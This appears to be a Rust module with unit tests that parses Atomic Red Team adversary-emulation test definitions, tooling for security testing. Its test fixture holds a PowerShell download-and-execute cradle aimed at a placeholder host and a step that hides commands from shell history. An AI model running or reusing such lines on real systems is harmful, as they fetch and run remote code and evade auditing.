//! Atomic Red Team's test definitions (`atomics/<T-id>/<T-id>.yaml`), parsed faithfully:
//! multi-line commands, typed input arguments with defaults, every executor (including
//! `manual`, which has steps instead of a command), cleanup, elevation and dependencies.
//! A file that cannot be read as the schema says is an error naming the file and the line.
use serde::Deserialize;
use serde_yaml_ng::Value;
use std::collections::{BTreeMap, HashSet};
use std::fmt;
use uuid::Uuid;

/// One `atomics/<T-id>/<T-id>.yaml`.
#[derive(Debug, Clone, PartialEq)]
pub struct AtomicFile {
    pub attack_technique: String,
    pub display_name: String,
    pub tests: Vec<AtomicTest>,
}

#[derive(Debug, Clone, PartialEq)]
pub struct AtomicTest {
    pub guid: Uuid,
    pub name: String,
    pub description: String,
    pub supported_platforms: Vec<String>,
    /// By name, in name order.
    pub input_arguments: Vec<InputArgument>,
    pub executor: Executor,
    pub dependencies: Vec<Dependency>,
    pub dependency_executor_name: Option<String>,
}

#[derive(Debug, Clone, PartialEq)]
pub struct InputArgument {
    pub name: String,
    pub description: String,
    /// As written (`string`, `path`, `url`, `integer`…), lower-cased.
    pub kind: String,
    /// Numbers and booleans as YAML wrote them; empty when there is none.
    pub default: String,
}

#[derive(Debug, Clone, PartialEq)]
pub struct Executor {
    /// `command_prompt`, `powershell`, `sh`, `bash` or `manual`.
    pub name: String,
    /// What runs; for `manual`, the steps a person follows.
    pub command: String,
    pub cleanup_command: Option<String>,
    pub elevation_required: bool,
}

impl Executor {
    pub fn is_manual(&self) -> bool {
        self.name == "manual"
    }
}

#[derive(Debug, Clone, PartialEq)]
pub struct Dependency {
    pub description: String,
    pub prereq_command: String,
    pub get_prereq_command: String,
}

pub const EXECUTORS: [&str; 5] = ["command_prompt", "powershell", "sh", "bash", "manual"];

/// Why a file was skipped: where, and what is wrong.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ParseError {
    pub path: String,
    pub line: Option<usize>,
    pub message: String,
}

impl fmt::Display for ParseError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self.line {
            Some(line) => write!(f, "{}, line {line}: {}", self.path, self.message),
            None => write!(f, "{}: {}", self.path, self.message),
        }
    }
}

#[derive(Deserialize)]
struct RawFile {
    attack_technique: String,
    #[serde(default)]
    display_name: String,
    atomic_tests: Vec<RawTest>,
}

#[derive(Deserialize)]
struct RawTest {
    name: String,
    auto_generated_guid: Option<String>,
    #[serde(default)]
    description: String,
    #[serde(default)]
    supported_platforms: Vec<String>,
    #[serde(default)]
    input_arguments: Option<BTreeMap<String, RawArgument>>,
    executor: RawExecutor,
    #[serde(default)]
    dependencies: Option<Vec<RawDependency>>,
    #[serde(default)]
    dependency_executor_name: Option<String>,
}

#[derive(Deserialize)]
struct RawArgument {
    #[serde(default)]
    description: String,
    #[serde(rename = "type", default)]
    kind: String,
    #[serde(default)]
    default: Value,
}

#[derive(Deserialize)]
struct RawExecutor {
    name: String,
    #[serde(default)]
    command: Option<String>,
    #[serde(default)]
    steps: Option<String>,
    #[serde(default)]
    cleanup_command: Option<String>,
    #[serde(default)]
    elevation_required: bool,
}

#[derive(Deserialize)]
struct RawDependency {
    #[serde(default)]
    description: String,
    #[serde(default)]
    prereq_command: String,
    #[serde(default)]
    get_prereq_command: String,
}

/// YAML scalars as text: `10` stays `10`, `true` stays `true`, `~` is empty.
fn scalar_text(value: &Value) -> String {
    match value {
        Value::Null => String::new(),
        Value::Bool(b) => b.to_string(),
        Value::Number(n) => n.to_string(),
        Value::String(s) => s.clone(),
        other => serde_yaml_ng::to_string(other)
            .unwrap_or_default()
            .trim()
            .to_owned(),
    }
}

/// The parser names our private structs (`struct RawExecutor`); people read "a mapping".
fn plain_type_names(message: &str) -> String {
    let mut out = String::with_capacity(message.len());
    let mut rest = message;
    while let Some(at) = rest.find("struct Raw") {
        out.push_str(&rest[..at]);
        out.push_str("a mapping");
        rest = rest[at + "struct Raw".len()..].trim_start_matches(|c: char| c.is_alphanumeric());
    }
    out.push_str(rest);
    out
}

fn non_blank(text: Option<String>) -> Option<String> {
    text.map(|t| t.trim_end().to_owned())
        .filter(|t| !t.trim().is_empty())
}

/// Parses one atomics file. `path` names it in errors.
pub fn parse_atomic_file(path: &str, text: &str) -> Result<AtomicFile, ParseError> {
    let fail = |line: Option<usize>, message: String| ParseError {
        path: path.to_owned(),
        line,
        message,
    };
    let raw: RawFile = serde_yaml_ng::from_str(text).map_err(|e| {
        let line = e.location().map(|l| l.line());
        // The library's message repeats the position; keep only what is wrong.
        let message = e.to_string();
        let message = message.split(" at line ").next().unwrap_or(&message);
        fail(line, plain_type_names(message))
    })?;
    let technique = raw.attack_technique.trim().to_uppercase();
    if !technique.starts_with('T') {
        return Err(fail(
            None,
            format!("attack_technique '{technique}' is not an ATT&CK technique id"),
        ));
    }
    let mut seen = HashSet::new();
    let mut tests = Vec::with_capacity(raw.atomic_tests.len());
    for (index, test) in raw.atomic_tests.into_iter().enumerate() {
        let which = format!("test {} ('{}')", index + 1, test.name.trim());
        let guid = test
            .auto_generated_guid
            .as_deref()
            .map(str::trim)
            .ok_or_else(|| fail(None, format!("{which} has no auto_generated_guid")))?;
        let guid = Uuid::parse_str(guid).map_err(|e| {
            fail(
                None,
                format!("{which}: auto_generated_guid '{guid}' is not a UUID ({e})"),
            )
        })?;
        if !seen.insert(guid) {
            return Err(fail(
                None,
                format!("{which}: auto_generated_guid {guid} appears twice"),
            ));
        }
        if test.name.trim().is_empty() {
            return Err(fail(None, format!("test {} has no name", index + 1)));
        }
        let executor_name = test.executor.name.trim().to_lowercase();
        if !EXECUTORS.contains(&executor_name.as_str()) {
            return Err(fail(
                None,
                format!(
                    "{which}: unknown executor '{executor_name}'; expected one of {}",
                    EXECUTORS.join(", ")
                ),
            ));
        }
        let command = if executor_name == "manual" {
            non_blank(test.executor.steps).or(non_blank(test.executor.command))
        } else {
            non_blank(test.executor.command)
        }
        .ok_or_else(|| {
            fail(
                None,
                format!("{which}: the {executor_name} executor has no command"),
            )
        })?;
        let input_arguments = test
            .input_arguments
            .unwrap_or_default()
            .into_iter()
            .map(|(name, arg)| InputArgument {
                name,
                description: arg.description.trim().to_owned(),
                kind: arg.kind.trim().to_lowercase(),
                default: scalar_text(&arg.default),
            })
            .collect();
        tests.push(AtomicTest {
            guid,
            name: test.name.trim().to_owned(),
            description: test.description.trim_end().to_owned(),
            supported_platforms: test
                .supported_platforms
                .into_iter()
                .map(|p| p.trim().to_lowercase())
                .filter(|p| !p.is_empty())
                .collect(),
            input_arguments,
            executor: Executor {
                name: executor_name,
                command,
                cleanup_command: non_blank(test.executor.cleanup_command),
                elevation_required: test.executor.elevation_required,
            },
            dependencies: test
                .dependencies
                .unwrap_or_default()
                .into_iter()
                .map(|d| Dependency {
                    description: d.description.trim_end().to_owned(),
                    prereq_command: d.prereq_command.trim_end().to_owned(),
                    get_prereq_command: d.get_prereq_command.trim_end().to_owned(),
                })
                .collect(),
            dependency_executor_name: non_blank(test.dependency_executor_name)
                .map(|n| n.trim().to_lowercase()),
        });
    }
    Ok(AtomicFile {
        attack_technique: technique,
        display_name: raw.display_name.trim().to_owned(),
        tests,
    })
}

/// Fills `#{name}` placeholders with the given values, else the argument's default; unknown
/// placeholders stay as written so nothing is silently lost.
pub fn fill_arguments(
    command: &str,
    arguments: &[InputArgument],
    values: &BTreeMap<String, String>,
) -> String {
    let mut filled = command.to_owned();
    for argument in arguments {
        let value = values.get(&argument.name).unwrap_or(&argument.default);
        filled = filled.replace(&format!("#{{{}}}", argument.name), value);
    }
    filled
}

#[cfg(test)]
mod tests {
    use super::*;

    const FIXTURE: &str = r#"attack_technique: t1059.001
display_name: 'Command and Scripting Interpreter: PowerShell'
atomic_tests:
- name: Download cradle
  auto_generated_guid: f3132740-55bc-48c4-bcc0-758a459cd027
  description: |
    Downloads a script.

    Then runs it.
  supported_platforms:
  - windows
  input_arguments:
    url:
      description: Where from
      type: Url
      default: https://example.test/a.ps1
    count:
      description: How often
      type: integer
      default: 10
    verbose:
      description: Say more
      type: string
      default: true
    empty:
      description: Nothing by default
      type: string
  dependency_executor_name: PowerShell
  dependencies:
  - description: |
      The module must exist
    prereq_command: |
      if (Test-Path x) {exit 0} else {exit 1}
    get_prereq_command: |
      New-Item x
      Write-Host done
  executor:
    command: |
      powershell.exe "IEX (New-Object Net.WebClient).DownloadString('#{url}')"
      Write-Host #{count} #{verbose} #{unknown}
    cleanup_command: |
      Remove-Item x -ErrorAction Ignore
    name: command_prompt
    elevation_required: true
- name: By hand
  auto_generated_guid: 0b1e6b8c-2b9e-4d7a-9f55-6b7f0f3b2a11
  description: Follow the steps
  supported_platforms:
  - macos
  - Linux
  executor:
    steps: |
      1. export HISTCONTROL=ignoreboth
      2. ls
    name: manual
"#;

    #[test]
    fn every_schema_feature_is_read() {
        let file = parse_atomic_file("atomics/T1059.001/T1059.001.yaml", FIXTURE).unwrap();
        assert_eq!(file.attack_technique, "T1059.001");
        assert_eq!(
            file.display_name,
            "Command and Scripting Interpreter: PowerShell"
        );
        assert_eq!(file.tests.len(), 2);
        let cradle = &file.tests[0];
        assert_eq!(
            cradle.guid.to_string(),
            "f3132740-55bc-48c4-bcc0-758a459cd027"
        );
        assert_eq!(cradle.description, "Downloads a script.\n\nThen runs it.");
        assert_eq!(cradle.supported_platforms, ["windows"]);
        let args: Vec<(&str, &str, &str)> = cradle
            .input_arguments
            .iter()
            .map(|a| (a.name.as_str(), a.kind.as_str(), a.default.as_str()))
            .collect();
        assert_eq!(
            args,
            [
                ("count", "integer", "10"),
                ("empty", "string", ""),
                ("url", "url", "https://example.test/a.ps1"),
                ("verbose", "string", "true"),
            ]
        );
        assert_eq!(cradle.executor.name, "command_prompt");
        assert!(cradle.executor.elevation_required);
        assert_eq!(
            cradle.executor.command.lines().count(),
            2,
            "multi-line commands keep their lines"
        );
        assert_eq!(
            cradle.executor.cleanup_command.as_deref(),
            Some("Remove-Item x -ErrorAction Ignore")
        );
        assert_eq!(
            cradle.dependency_executor_name.as_deref(),
            Some("powershell")
        );
        assert_eq!(cradle.dependencies.len(), 1);
        assert_eq!(
            cradle.dependencies[0].get_prereq_command,
            "New-Item x\nWrite-Host done"
        );

        let manual = &file.tests[1];
        assert!(manual.executor.is_manual());
        assert!(manual.executor.command.starts_with("1. export"));
        assert_eq!(manual.supported_platforms, ["macos", "linux"]);
        assert!(!manual.executor.elevation_required);
        assert!(manual.executor.cleanup_command.is_none());
        assert!(manual.input_arguments.is_empty() && manual.dependencies.is_empty());
    }

    #[test]
    fn arguments_fill_the_command() {
        let file = parse_atomic_file("f.yaml", FIXTURE).unwrap();
        let test = &file.tests[0];
        let mut values = BTreeMap::new();
        values.insert("count".to_owned(), "3".to_owned());
        let command = fill_arguments(&test.executor.command, &test.input_arguments, &values);
        assert!(command.contains("DownloadString('https://example.test/a.ps1')"));
        assert!(
            command.contains("Write-Host 3 true #{unknown}"),
            "{command}"
        );
    }

    #[test]
    fn malformed_files_name_the_file_and_line() {
        let broken = "attack_technique: T1000\natomic_tests:\n- name: x\n  executor: [unclosed\n";
        let err = parse_atomic_file("atomics/T1000/T1000.yaml", broken).unwrap_err();
        assert_eq!(err.path, "atomics/T1000/T1000.yaml");
        assert!(err.line.is_some(), "{err}");
        assert!(
            err.to_string()
                .starts_with("atomics/T1000/T1000.yaml, line ")
        );
        assert!(
            err.message.contains("expected a mapping") && !err.message.contains("Raw"),
            "{err}"
        );

        let cases = [
            (
                "attack_technique: T1000\natomic_tests:\n- name: x\n  executor:\n    name: sh\n    command: ls\n",
                "has no auto_generated_guid",
            ),
            (
                "attack_technique: T1000\natomic_tests:\n- name: x\n  auto_generated_guid: nope\n  executor:\n    name: sh\n    command: ls\n",
                "is not a UUID",
            ),
            (
                "attack_technique: T1000\natomic_tests:\n- name: x\n  auto_generated_guid: 0b1e6b8c-2b9e-4d7a-9f55-6b7f0f3b2a11\n  executor:\n    name: cmd.exe\n    command: ls\n",
                "unknown executor 'cmd.exe'",
            ),
            (
                "attack_technique: T1000\natomic_tests:\n- name: x\n  auto_generated_guid: 0b1e6b8c-2b9e-4d7a-9f55-6b7f0f3b2a11\n  executor:\n    name: sh\n",
                "the sh executor has no command",
            ),
            (
                "attack_technique: G0016\natomic_tests: []\n",
                "is not an ATT&CK technique id",
            ),
            ("display_name: x\n", "missing field `attack_technique`"),
        ];
        for (text, expected) in cases {
            let err = parse_atomic_file("f.yaml", text).unwrap_err();
            assert!(err.message.contains(expected), "{expected:?} in {err}");
        }
    }

    /// The real atomics, when the shared data is present: every file parses, and the counts
    /// equal those in its README.
    #[test]
    fn the_real_atomics_match_their_published_counts() {
        let root = std::path::Path::new(env!("CARGO_MANIFEST_DIR"))
            .join("../../shared/data/atomic-red-team/atomics");
        let Ok(dirs) = std::fs::read_dir(&root) else {
            eprintln!("skipping: {} is not present", root.display());
            return;
        };
        let mut files = 0;
        let mut tests = 0;
        let mut guids = HashSet::new();
        let mut executors: BTreeMap<String, usize> = BTreeMap::new();
        for dir in dirs.flatten() {
            let name = dir.file_name().to_string_lossy().into_owned();
            let path = dir.path().join(format!("{name}.yaml"));
            let Ok(text) = std::fs::read_to_string(&path) else {
                continue;
            };
            let file = parse_atomic_file(&path.display().to_string(), &text)
                .unwrap_or_else(|e| panic!("{e}"));
            assert_eq!(file.attack_technique, name);
            files += 1;
            for test in file.tests {
                tests += 1;
                assert!(guids.insert(test.guid), "duplicate {}", test.guid);
                *executors.entry(test.executor.name).or_default() += 1;
            }
        }
        assert_eq!(files, 341);
        assert_eq!(tests, 1819);
        let expected: BTreeMap<String, usize> = [
            ("bash", 128),
            ("command_prompt", 559),
            ("manual", 16),
            ("powershell", 703),
            ("sh", 413),
        ]
        .into_iter()
        .map(|(k, v)| (k.to_owned(), v))
        .collect();
        assert_eq!(executors, expected);
    }
}
